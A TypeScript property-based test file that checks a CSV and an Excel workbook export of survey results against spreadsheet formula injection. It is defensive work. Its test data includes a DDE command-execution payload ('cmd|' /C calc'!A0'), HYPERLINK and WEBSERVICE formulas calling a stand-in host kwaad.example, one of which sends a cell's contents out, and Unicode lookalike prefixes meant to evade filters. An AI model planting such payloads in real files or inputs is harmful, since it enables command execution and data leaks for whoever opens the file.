import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { writeFacts } from '../../src/report/fact-csv.ts'
import { writeWorkbook } from '../../src/report/workbook.ts'
import { factTable } from '../../src/report/workbook-facts.ts'
import type { Result } from '../../src/scan/result.ts'
import { withFive } from '../build/five.ts'
import { aResult } from '../build/result.ts'
import { instrument } from '../cards/team.ts'

/** What a formula begins with, as it is typed anywhere in the world. */
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '⁺', '−', '–']
/** What may stand before it, and be passed over. */
const BEFORE = ['', ' ', '\u00a0', '\u3000', '"', "'", '""', '“', '«', '„', '\ufeff', '\u200b', '\u202e', ';', ',', '(']
const REST = [
  '1+1',
  'HYPERLINK("https://kwaad.example?"&A1;"klik")',
  "cmd|' /C calc'!A0",
  '"";=1+1',
  '1\r\n=1+1;"x"',
  'WEBSERVICE("https://kwaad.example")'
]

const hostile = fc
  .tuple(fc.array(fc.constantFrom(...BEFORE), { maxLength: 3 }), fc.constantFrom(...SIGNS), fc.constantFrom(...REST))
  .map(([before, sign, rest]) => `${before.join('')}${sign}${rest}`)
const typed = fc.oneof(
  { weight: 3, arbitrary: hostile },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc.array(fc.constantFrom('"', ';', ',', '\n', '\r\n', "'", '=', ' ', 'é')).map((all) => all.join(''))
  }
)

/** Whether a program could take this for a formula, whatever it passes over and however wide it reads. */
function couldCount(text: string): boolean {
  const [first = ''] = text.replace(/^[\s\p{C}\p{Z}"'“”„«»;,()]+/u, '')
  return /^[\t\r\n]/.test(text) || '=+-@−–'.includes(first.normalize('NFKC') || 'x')
}

/** The rows of the CSV, as another program reads them: nothing in it may be amiss. */
function rowsOf(result: Result): string[][] {
  const bytes = Buffer.from(writeFacts({ instrument, result }))
  return parse(bytes, { bom: true, delimiter: ';', record_delimiter: '\r\n' })
}

/** A result of one block, of a centre with this name: the only thing in the CSV that somebody typed. */
function of(centre: string): Result {
  const result = aResult(instrument, { centre })
  return { ...result, blocks: result.blocks.slice(0, 1) }
}

describe('the CSV', () => {
  test.each(SIGNS.map((sign) => [JSON.stringify(sign), sign]))(
    'has an apostrophe before a text with %s at its beginning, whatever that is hidden behind',
    (_, sign) => {
      for (const before of BEFORE) {
        const centre = `${before}${sign}1+1`
        for (const [cell] of rowsOf(of(centre)).slice(1)) expect(cell).toBe(`'${centre}`)
      }
    }
  )

  test('has no cell that a program could take for a formula, whatever was typed', () => {
    fc.assert(
      fc.property(typed, (centre) => {
        for (const cell of rowsOf(of(centre)).flat())
          expect(cell.startsWith("'") || !couldCount(cell), JSON.stringify(cell)).toBe(true)
      })
    )
  })

  test('keeps quotation marks, semicolons, commas and line breaks: another program reads what was written', () => {
    fc.assert(
      fc.property(typed, (centre) => {
        const result = of(centre)
        const { columns, rows } = factTable({ instrument, result })
        const [head, ...read] = rowsOf(result)
        expect(head).toEqual(columns.map((column) => column.head))
        const [plain, guarded] = ['', "'"].map((mark) =>
          rows.map(([first, ...rest]) => [`${mark}${first}`, ...rest.map((cell) => `${cell ?? ''}`)])
        )
        expect([plain, guarded]).toContainEqual(read)
      })
    )
  })

  test('of a centre with an ordinary name has no apostrophe anywhere', () => {
    for (const centre of ['CLB Noord', '’t Centrum', '"De Kaap"', '(GO!) CLB', '3-2-1 CLB', 'Éen + twee', '中心'])
      for (const cell of rowsOf(of(centre)).flat()) expect(cell).not.toMatch(/^'/)
  })
})

/** A result in which everything that somebody can type is this. */
function saying(text: string): Result {
  const notes = { intent: text, difference: text, levers: text, barriers: text }
  const result = aResult(instrument, { centre: text, facilitator: text, director: text })
  return {
    ...result,
    blocks: result.blocks.map((block) => ({
      ...block,
      answer: withFive(block.answer, { difference: ['other'], other: text, notes })
    }))
  }
}

describe('the workbook', () => {
  test('has no cell that counts, wherever somebody typed whatever, and stays so when a cell is edited', async () => {
    await fc.assert(
      fc.asyncProperty(typed, async (text) => {
        const voters = instrument.blocks.map(({ id }) => ({
          block: id,
          name: text,
          first: 'planmatig',
          second: undefined
        }))
        const files = Object.entries(unzipSync(await writeWorkbook({ instrument, result: saying(text), voters })))
        const xml = new Map(files.map(([path, file]) => [path, strFromU8(file)]))
        const styles = xml.get('xl/styles.xml') ?? ''
        const asText = /numFmtId="(\d+)" formatCode="@"/.exec(styles)?.[1]
        const formats = [...(styles.split('<cellXfs')[1] ?? '').matchAll(/<xf ([^>]*)>/g)].map(
          ([, of = '']) => /numFmtId="(\d+)"/.exec(of)?.[1]
        )
        expect(asText).toBeDefined()
        for (const [path, sheet] of xml) {
          expect(sheet, path).not.toMatch(/<f[ >/]|<hyperlink|externalLink|<ddeLink/)
          if (!path.startsWith('xl/worksheets/sheet')) continue
          const cells = [...sheet.matchAll(/<c r="[A-Z]+(\d+)"([^>]*)>/g)]
          expect(cells.length).toBeGreaterThan(5)
          for (const [cell, row, of = ''] of cells) {
            const [, type] = /t="(\w+)"/.exec(of) ?? []
            const [, style] = /s="(\d+)"/.exec(of) ?? []
            expect(['s', undefined], cell).toContain(type)
            // The first row is the head, in which nobody types.
            if (type === 's' && row !== '1') expect(formats[Number(style)], cell).toBe(asText)
          }
        }
      }),
      { numRuns: 15 }
    )
  })
})
